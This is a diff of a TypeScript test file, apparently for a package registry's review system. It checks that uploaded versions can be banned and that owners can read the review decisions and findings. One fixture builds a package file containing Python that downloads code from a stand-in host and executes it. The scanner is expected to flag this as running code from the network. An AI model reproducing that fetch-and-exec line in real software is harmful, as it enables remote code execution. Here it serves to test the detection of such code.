@@ -70,6 +70,9 @@ test('a withdrawn version can be banned, and so can one of a withdrawn node', as
   }
 })
 
+const findingsIn = (version: object): Record<string, unknown>[] =>
+  'findings' in version ? (version.findings as Record<string, unknown>[]) : []
+
 test('an owner reads the decision on a review, and what it is about: a refusal, then a ban', async () => {
   const evil = `import requests\nexec(requests.get("https://x.example/${unique('x')}").text)\n`
   const sent = await send(packOf(unique('Evil'), { 'evil.py': evil }))
@@ -84,12 +87,12 @@ test('an owner reads the decision on a review, and what it is about: a refusal, 
     const etag = unchanged.headers.get('etag') ?? ''
     const { body } = expectStatus(await owner.get(sent.version, { 'if-none-match': etag }), 200)
     assert.deepEqual([body['status'], body['status_reason']], [status, `no: ${status}`])
-    const [{ message, ...finding } = {}, ...others] = listOf({ body }, 'findings')
+    const [{ message, ...finding } = {}, ...others] = findingsIn(body)
     assert.match(String(message), /^Code from the network is run/)
     assert.deepEqual([finding, others], [place, []])
     decisions.unshift({ status, reason: `no: ${status}` })
-    const { body: found } = await owner.get(`${sent.version}/findings`)
-    assert.deepEqual(pluck(listOf({ body: found }, 'reviews'), 'decision'), decisions)
+    const found = await owner.get(`${sent.version}/findings`)
+    assert.deepEqual(pluck(listOf(found, 'reviews'), 'decision'), decisions)
     const seen = await anonymous.get(sent.version, {
       'if-none-match': (await owner.get(sent.version)).headers.get('etag') ?? '',
     })
